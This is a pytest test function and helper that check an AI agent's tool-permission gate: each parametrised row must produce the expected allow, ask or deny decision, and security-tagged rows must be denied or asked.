def _needs_sandbox(row: tuple) -> bool:
    """A Bash row expecting an allow, or an ask for a stated reason, decides as the permission gate does under the
    active sandbox (without it, every command that is not read-only asks as a safety check): it needs the sandbox
    (tests/conftest.py). Denials and plain asks hold either way."""
    return row[1] == B and (row[5] == A or (row[5] == Q and row[6] not in (None, "safetyCheck")))


@pytest.mark.parametrize("row", [pytest.param(r, id=r[0], marks=pytest.mark.needs_sandbox if _needs_sandbox(r)
                                              else ()) for r in ROWS])
def test_row(row, env, monkeypatch):
    monkeypatch.setenv("HOME", env["home"])
    rid, tool_name, arg, rules, mode, expected, reason_type = row[:7]
    extra = row[7] if len(row) > 7 else {}
    tool = _tool(tool_name)
    rules = _fill(rules, env)
    if tool_name == "Bash":
        inp = {"command": arg.replace("{ws}", env["ws"]).replace("{out}", env["out"]), **extra.get("input", {})}
    elif tool_name in ("Grep", "Glob"):
        inp = {"pattern": "x", "path": _fill(arg, env)}
    elif tool_name.startswith("mcp__") or tool_name == "WebFetch":
        inp = {"url": arg}
    else:
        inp = {"file_path": _fill(arg, env), "old_string": "a", "new_string": "b"}
    ctx = make_ctx(env["ws"], mode=mode, rules=rules, source=extra.get("source", "session"),
                   add_dirs=_fill(extra.get("add_dirs", []), env))
    parsed = tool.input_model.model_validate(inp)
    decision = decide_for(tool, parsed, ctx)
    assert decision.behavior == expected, (rid, decision)
    if reason_type is not None:
        assert decision.decision_reason is not None and decision.decision_reason.type == reason_type, (rid, decision)
    if rid.startswith("SEC-"):
        assert decision.behavior in ("deny", "ask")
    if decision.behavior == "ask":
        assert decision.message
